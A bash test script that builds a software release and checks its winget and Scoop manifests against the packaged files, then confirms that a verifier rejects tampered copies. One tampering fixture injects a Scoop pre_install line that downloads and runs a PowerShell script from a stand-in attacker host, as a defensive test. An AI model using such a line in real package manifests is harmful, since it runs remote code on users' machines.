#!/usr/bin/env bash
# The release folder and its manifests as package repositories take them: runs the release
# command into BUILD_ROOT, then holds every manifest to the files it names, the files
# as uploaded to their checksums, and the release to what may replace it. Each fact
# is read here apart from the generator's reading: hashes by sha256sum, the MSI codes with
# the release tools' MSI reader (libmsi), the exe's machine with file(1), the ZIPs' listings
# with unzip.
# usage: manifests_test.sh SOURCE_DIR BUILD_ROOT [CMAKE_OPTION...]
#   DORVANE_RELEASE_BUILD=0   gather the packages BUILD_ROOT already holds, build nothing
set -u
src=$1
root=$2
shift 2
# shellcheck source=tests/checks.sh
source "$(dirname "$0")/../checks.sh"
url=https://downloads.example.org/dorvane/1.0.0/
# release.sh releases a commit, and refuses a tree with uncommitted changes: it runs in a
# clone at $root/src, at HEAD where nothing is uncommitted, else at a commit of the tree as
# it is (made in the clone, dated as HEAD). The build trees follow the clone.
if [ -n "$(git -C "$src" rev-parse --show-toplevel 2>/dev/null)" ]; then
  checkout=$root/src
  if [ "${DORVANE_RELEASE_BUILD-1}" = 1 ]; then
    rm -rf "$checkout"
    { git clone -q --no-hardlinks "$src" "$checkout" && git -C "$checkout" checkout -q "$(git -C "$src" rev-parse HEAD)"; } ||
      { echo "manifests_test.sh: cannot clone $src" >&2; exit 1; }
    if [ -n "$(git -C "$src" status --porcelain --untracked-files=no)" ]; then
      (cd "$checkout" && git ls-files -z | xargs -0 rm -f)
      copy_sources "$src" "$checkout"
      date=$(git -C "$src" log -1 --format=%ct)
      git -C "$checkout" add -A &&
        GIT_COMMITTER_DATE=@$date git -C "$checkout" -c user.name=t -c user.email=t@t commit -q --date=@"$date" -m "the tree as it is"
      echo "note: $src has uncommitted changes: released from a commit of them in $checkout"
    fi
    for tree in "$root"/windows-*/; do
      grep -qx "CMAKE_HOME_DIRECTORY:INTERNAL=$checkout" "$tree/CMakeCache.txt" 2>/dev/null || rm -rf "$tree"
    done
    # (Releases of an earlier clone's commits are not this one's to replace.)
    rm -rf "$root/release"
  fi
  src=$checkout
fi
release=("$src/scripts/release.sh" --build-root "$root")
[ "${DORVANE_RELEASE_BUILD-1}" = 1 ] || release+=(--no-build)

# (That one commit gives the same bytes is release.reprotest's to show.)
DORVANE_RELEASE_URL=$url "${release[@]}" "$@" >"$tmp/run1.log" 2>&1 || { cat "$tmp/run1.log"; exit 1; }
out=$tmp/run1
cp -a "$(sed -n 's/^release [^:]*: //p' "$tmp/run1.log")" "$out"
sums=$(sha256sum <"$out/SHA256SUMS" | cut -c1-64)
why=""
for what in "the files as uploaded" "the whole folder"; do
  grep -q "^checked: $what (sums), .* passed, 0 failed$" "$tmp/run1.log" || why=$(why_not "$why" "not $what")
done
record "release.sh checked the files as uploaded and the whole folder, the manifests in it, with the verifier" "$why"

# Without a URL: the same files, and one line saying there are no manifests.
"${release[@]:0:3}" --no-build >"$tmp/plain.log" 2>&1 || { cat "$tmp/plain.log"; exit 1; }
why=""
[ "$(grep -c '^no manifests: DORVANE_RELEASE_URL is not set' "$tmp/plain.log")" = 1 ] || why="no line saying so"
plain=$(sed -n 's/^release [^:]*: //p' "$tmp/plain.log")
ls "$plain"/{winget,scoop} >/dev/null 2>&1 && why=$(why_not "$why" "manifests written anyway")
# (The release it replaced had manifests, which may be published: it is kept, and said so.)
kept=$(sed -n 's/^release.sh: the release this replaces differs from it, and is kept as \(.*\): if it was published, .*/\1/p' "$tmp/plain.log")
[ "$kept" = "$plain.replaced-${sums:0:12}" ] && [ -d "$kept/winget" ] ||
  why=$(why_not "$why" "the release with manifests not kept, named by its SHA256SUMS, or not said: '$kept'")
record "no URL, no manifests, one line saying so; the release with manifests kept beside" "$why"
# Then with manifests again: the release without them has the same SHA256SUMS as the one
# kept above, and is kept beside it, not in its place.
DORVANE_RELEASE_URL=$url "${release[@]:0:3}" --no-build >"$tmp/again.log" 2>&1 || { cat "$tmp/again.log"; exit 1; }
why=""
again=$(sed -n 's/^release.sh: the release this replaces differs from it, and is kept as \(.*\): if it was published, .*/\1/p' "$tmp/again.log")
[ "$again" = "$kept-2" ] && [ -d "$kept/winget" ] && [ -d "$again" ] && [ ! -e "$again/winget" ] ||
  why="kept as '$again' beside '$kept'"
record "a release kept whose SHA256SUMS one kept already has: kept beside it as -2" "$why"

# Every file the package steps made, as they made it (the SBOM and provenance included).
version=$(sed -n 's|^release \([^:]*\): .*|\1|p' "$tmp/run1.log")
why=""
files=("$root"/windows-*/package/dorvane-"$version"-*)
for file in "${files[@]}"; do
  cmp -s "$file" "$out/${file##*/}" || why=$(why_not "$why" "${file##*/}")
done
record "the release holds every package file, ${#files[@]} of them" "${why:+missing or changed: $why}"

# SHA256SUMS lists exactly the flat files users download; the manifests, which go to their
# repositories, are in no list. The flat files copied alone pass sha256sum -c and the
# verifier with the SHA-256 of SHA256SUMS.
why=""
[ "$(cut -c67- "$out/SHA256SUMS")" = "$(find "$out" -maxdepth 1 -type f ! -name SHA256SUMS -printf '%f\n' | LC_ALL=C sort)" ] ||
  why="it does not list exactly the flat files: $(cut -c67- "$out/SHA256SUMS" | grep / | head -2 | tr '\n' ' ')"
mkdir "$tmp/uploaded"
find "$out" -maxdepth 1 -type f -exec cp {} "$tmp/uploaded/" \;
(cd "$tmp/uploaded" && sha256sum --quiet -c SHA256SUMS) >"$tmp/sums.log" 2>&1 || why=$(why_not "$why" "$(head -2 "$tmp/sums.log" | tr '\n' ' ')")
"$src/scripts/verify-release" "$tmp/uploaded" --sums "$sums" >"$tmp/verify.log" 2>&1 ||
  why=$(why_not "$why" "verify-release --sums: $(grep -m2 '^FAIL' "$tmp/verify.log" | tr '\n' ' ')")
record "the flat files alone: SHA256SUMS lists them all and no manifest; sha256sum -c and verify-release --sums pass" "$why"

# What may replace a release: only the same version of the same commit. A run of fewer
# architectures writes a folder of its own; what would be refused after building (the
# manifests without every architecture, a URL without the version, another commit of this
# version, a version tag that is not this version) is refused before it.
final=$root/release/$version
snapshot() { (cd "$final" && find . -type f -exec sha256sum {} + | LC_ALL=C sort); }
snapshot >"$tmp/full.before"
# ran STATUS WANT COMMAND...: sets why to the reasons COMMAND did not end with STATUS, print
# a line matching WANT and no traceback, build nothing and leave the release as
# $tmp/full.before holds it.
ran() {
  local status=0
  "${@:3}" >"$tmp/ran.log" 2>&1 || status=$?
  why=""
  [ $status = "$1" ] || why="status $status"
  grep -q -- "$2" "$tmp/ran.log" || why=$(why_not "$why" "said: $(grep -v '^--' "$tmp/ran.log" | tail -2 | tr '\n' ' ')")
  grep -q '^== ' "$tmp/ran.log" && why=$(why_not "$why" "built")
  ! grep -q Traceback "$tmp/ran.log" || why=$(why_not "$why" "a traceback")
  snapshot | cmp -s - "$tmp/full.before" || why=$(why_not "$why" "the release changed")
}
# Nothing but https:// is a place to publish, and it is refused before anything is built.
for bad in http://downloads.example.org/1.0.0/ ftp://example.org/ downloads.example.org "https:// x"; do
  ran 2 "^release.sh: DORVANE_RELEASE_URL must be an https:// URL" env DORVANE_RELEASE_URL="$bad" "${release[@]}" "$@"
  record "refuses DORVANE_RELEASE_URL=$bad" "$why"
done
ran 0 "^release $version-win64: .*/release/$version-win64$" "${release[@]:0:3}" --no-build --presets windows-x64
[ -f "$root/release/$version-win64/SHA256SUMS" ] || why=$(why_not "$why" "no $version-win64 folder")
record "one architecture: its own folder $version-win64, the full release untouched" "$why"
if git -C "$src" rev-parse -q --verify HEAD >/dev/null 2>&1; then
  git -C "$src" -c user.name=t -c user.email=t@t commit -q --allow-empty -m "another commit of the same version"
  git -C "$src" tag v9.9.9 HEAD~1
  while IFS='|' read -r name setting options want; do
    read -ra options <<<"$options"
    ran 2 "^release.sh: .*$want" env "$setting" "${release[@]:0:3}" "${options[@]}"
    record "refused before building: $name" "$why"
  done <<EOT
manifests for one architecture|DORVANE_RELEASE_URL=$url|--presets windows-x64 $*|the manifests name every architecture
a URL that does not name the version|DORVANE_RELEASE_URL=https://downloads.example.org/dorvane/latest/|$*|must name the version
another commit of version $version|DORVANE_RELEASE_NOTES_URL=|$*|holds version $version of commit [0-9a-f]\{40\}, and this is commit .*--replace
EOT
  why=""
  "${release[@]:0:3}" --no-build --replace >"$tmp/replace.log" 2>&1 || why="status $?: $(tail -2 "$tmp/replace.log" | tr '\n' ' ')"
  grep -q "^release.sh: REPLACING $final" "$tmp/replace.log" || why=$(why_not "$why" "not said loudly")
  record "another commit of version $version with --replace: replaced, saying so" "$why"
  snapshot >"$tmp/full.before"
  git -C "$src" reset -q --hard HEAD~1
  ran 2 "^release.sh: this commit is tagged v9.9.9, and project(VERSION) in CMakeLists.txt says $version" \
    "${release[@]:0:3}" --no-build
  record "a commit tagged v9.9.9 while CMakeLists.txt says $version: refused" "$why"
  git -C "$src" tag -d v9.9.9 >/dev/null
else
  echo "left out: another commit and a tag ($src is not a git checkout)"
fi

# Trees configured without the records' tools (in a build root of their own, so that the
# trees above stay as they are): refused before building.
ran 2 "^release.sh: windows-x86: records lacks the npm packages .*; install with: scripts/ensure-tools.sh records$" \
  "$src/scripts/release.sh" --build-root "$tmp/no-records" "$@" -DDORVANE_NODE_MODULES="$tmp/none"
record "trees without the npm packages the records need: refused before building" "$why"
# A package without its SBOM (a tree configured without the records' tools) makes no release.
sbom=$root/windows-x86/package/$(jq -r .package.files.sbom "$root/windows-x86/project.json")
mv "$sbom" "$tmp/sbom"
ran 1 "^release.sh: .* lacks ${sbom##*/}$" "${release[@]:0:3}" --no-build --replace
record "a package without its SBOM: no release made, naming it" "$why"
mv "$tmp/sbom" "$sbom"

why=""
yamllint -f parsable -c "$(dirname "$0")/yamllint.yml" "$out/winget" >"$tmp/lint.log" 2>&1 ||
  why=$(head -3 "$tmp/lint.log" | tr '\n' ' ')
record "yamllint: the winget manifests" "$why"

# The manifests against the files, one line per check; counted here.
TMPDIR=$tmp /usr/bin/python3 - "$out" "$url" "$src/release" >"$tmp/facts.log" 2>&1 <<'EOF'
import glob, hashlib, json, os, re, subprocess, sys, yaml
out, url = sys.argv[1], sys.argv[2]
sys.path.insert(0, sys.argv[3])
from verify import msi
def run(*cmd): return subprocess.run(cmd, capture_output=True, text=True).stdout.replace("\r", "")
def first(*pairs):  # the reason of the first true condition, pairs of (condition, reason)
    return next((why for bad, why in zip(pairs[::2], pairs[1::2]) if bad), "")
def check(name, why): print("ok   " + name if not why else "FAIL %s: %s" % (name, why))
def sha(name): return hashlib.sha256(open(os.path.join(out, name), "rb").read()).hexdigest()
def listing(name): return run("unzip", "-Z1", os.path.join(out, name)).split("\n")
def machine(name):  # the exe's machine as file(1) reads it, from the ZIP or the MSI
    work = os.path.join(os.environ["TMPDIR"], name)
    if name.endswith(".zip"): run("unzip", "-q", "-o", "-d", work, os.path.join(out, name))
    else: run("msiextract", "-C", work, os.path.join(out, name))
    exe = [os.path.join(top, f) for top, _, files in os.walk(work) for f in files if f == "dorvane.exe"]
    kind = run("file", "-b", *exe)
    return {"Intel 80386": "x86", "x86-64": "x64", "Aarch64": "arm64"}.get(
        (re.findall(r"Intel 80386|x86-64|Aarch64", kind) or [kind])[0], kind)
def strings_only(value):  # no number, date, map or null where a string was meant
    if isinstance(value, (dict, list)):
        return all(map(strings_only, value.values() if isinstance(value, dict) else value))
    return isinstance(value, str)
S, L, D = str, list, dict
required = {
    "version": dict(PackageIdentifier=S, PackageVersion=S, DefaultLocale=S, ManifestVersion=S),
    "defaultLocale": dict(PackageIdentifier=S, PackageVersion=S, PackageLocale=S, Publisher=S, PackageName=S,
                          License=S, ShortDescription=S, Description=S, Moniker=S, Tags=L, ManifestVersion=S),
    "installer": dict(PackageIdentifier=S, PackageVersion=S, Installers=L, ManifestVersion=S),
    "wix": dict(Architecture=S, InstallerUrl=S, InstallerSha256=S, Scope=S, ProductCode=S, ElevationRequirement=S,
                AppsAndFeaturesEntries=L, MinimumOSVersion=S, Commands=L),
    "zip": dict(Architecture=S, InstallerUrl=S, InstallerSha256=S, NestedInstallerType=S,
                NestedInstallerFiles=L, MinimumOSVersion=S, Commands=L),
    "scoop": dict(version=S, description=S, homepage=S, license=S, architecture=D, bin=S, checkver=D, autoupdate=D),
}
def fields(name, doc, kind):
    bad = [key for key, kind_of in required[kind].items() if not isinstance(doc.get(key), kind_of)]
    check("%s: the %s fields, of their types" % (name, kind), bad and "wrong or missing: %s" % bad)
docs = {}
for path in sorted(glob.glob(out + "/winget/manifests/d/DORVANE/DORVANE/*/*.yaml")):
    text = open(path).read()
    doc = yaml.safe_load(text)
    kind = docs.setdefault(doc["ManifestType"], doc)["ManifestType"]
    header = "# yaml-language-server: $schema=https://aka.ms/winget-manifest.%s.1.12.0.schema.json\n" % kind
    check(os.path.basename(path) + ": schema 1.12.0 header, every value a string",
          first(not text.startswith(header), "header", not strings_only(doc), "a value YAML reads as no string"))
    fields(os.path.basename(path), doc, kind)
kinds = []
for i in docs["installer"]["Installers"]:
    file, kind = i["InstallerUrl"].rsplit("/", 1)[-1], i["InstallerType"]
    kinds.append((kind, i["Architecture"]))
    fields(file, i, "zip" if kind == "zip" else "wix")
    check("%s: %s, by the exe's PE machine" % (file, i["Architecture"]),
          machine(file) != i["Architecture"] and machine(file))
    check(file + ": the URL and SHA-256", first(i["InstallerUrl"] != url + file, "URL",
                                                i["InstallerSha256"] != sha(file).upper(), "stale hash"))
    if kind == "zip":
        nested = i["NestedInstallerFiles"][0]
        check(file + ": portable " + nested["RelativeFilePath"],
              first(nested["RelativeFilePath"].replace("\\", "/") not in listing(file), "not in the ZIP",
                    nested.get("PortableCommandAlias") != "dorvane", "alias"))
    else:
        prop = dict(msi.read(os.path.join(out, file))["tables"]["Property"]["rows"])
        arp = i["AppsAndFeaturesEntries"][0]
        want = [prop[k] for k in ("ProductCode", "ProductCode", "UpgradeCode", "ProductName", "Manufacturer")]
        got = [i.get("ProductCode")] + [arp.get(k) for k in ("ProductCode", "UpgradeCode", "DisplayName", "Publisher")]
        check(file + ": ProductCode, UpgradeCode, name and publisher are the MSI's",
              got != want and "%s, not %s" % (got, want))
check("six installers: wix and zip for x86, x64, arm64",
      sorted(kinds) != sorted((k, a) for k in ("wix", "zip") for a in ("x86", "x64", "arm64")) and kinds)
scoop = json.load(open(out + "/scoop/dorvane.json"))
fields("dorvane.json", scoop, "scoop")
suffix = re.fullmatch(r"\$url(.+)", scoop["autoupdate"]["hash"].get("url", ""))
check("dorvane.json: bin dorvane.exe, next hashes from the checksum beside each ZIP",
      first(scoop["bin"] != "dorvane.exe", "bin", not suffix or not all(os.path.isfile(os.path.join(
          out, a["url"].rsplit("/", 1)[-1] + suffix.group(1))) for a in scoop["architecture"].values()), "hash"))
for arch, a in scoop["architecture"].items():
    file, pe = a["url"].rsplit("/", 1)[-1], {"32bit": "x86", "64bit": "x64", "arm64": "arm64"}[arch]
    check("dorvane.json %s: %s, by the exe's PE machine" % (arch, file), machine(file) != pe and machine(file))
    check("dorvane.json %s: URL, hash, extract_dir %s" % (arch, a["extract_dir"]),
          first(a["url"] != url + file, "URL", a["hash"] != sha(file), "stale hash",
                a["extract_dir"] + "/dorvane.exe" not in listing(file), "not in the ZIP"))
EOF
replay "" "$tmp/facts.log"
! grep -q Traceback "$tmp/facts.log" || record "the manifest checks ran to the end" "$(tail -1 "$tmp/facts.log")"

# The verifier on the release as made: it passes, saying where its manifests download from,
# and a manifest changed in the folder (the packages and SHA256SUMS as they are) fails the
# whole run, naming what changed. Every other field is a row of tests/verify's table.
top=winget/manifests/d/DORVANE/DORVANE/$version
while IFS='|' read -r name file old new want; do
  copy=$tmp/hostile-$name
  cp -a "$out" "$copy"
  changed=""
  if [ "$name" != genuine ]; then
    # (the first OLD made NEW; \n a new line)
    text=$(<"$copy/$file") && printf '%s\n' "${text/"$old"/"${new//\\n/$'\n'}"}" >"$copy/$file" && ! cmp -s "$copy/$file" "$out/$file" ||
      changed="the manifest could not be changed"
  fi
  ran "$([ "$name" = genuine ] && echo 0 || echo 1)" "$want" timeout 60 "$src/scripts/verify-release" "$copy" --sums "$sums"
  record "verify-release on the manifests: $name" "${changed:+$changed; }$why"
  [ -z "$changed$why" ] || grep -E '^(FAIL|proved)' "$tmp/ran.log" | head -5 | cut -c1-300
done <<EOT
genuine||||^proved: integrity, .*the winget and Scoop manifests are what release/manifests.py writes for these packages, every field, .*with the download folder "$url"
scoop-pre-install|scoop/dorvane.json|{|{\n    "pre_install": ["iex (New-Object Net.WebClient).DownloadString('https://attacker.invalid/p.ps1')"],|^FAIL scoop/dorvane.json is what release/manifests.py writes for the packages of $version: it holds "pre_install", which release/manifests.py never writes
winget-key-twice|$top/DORVANE.DORVANE.locale.en-US.yaml|Publisher:|Publisher: Attacker\nPublisher:|^FAIL $top/DORVANE.DORVANE.locale.en-US.yaml .*: it holds the key "Publisher" twice
EOT

finish
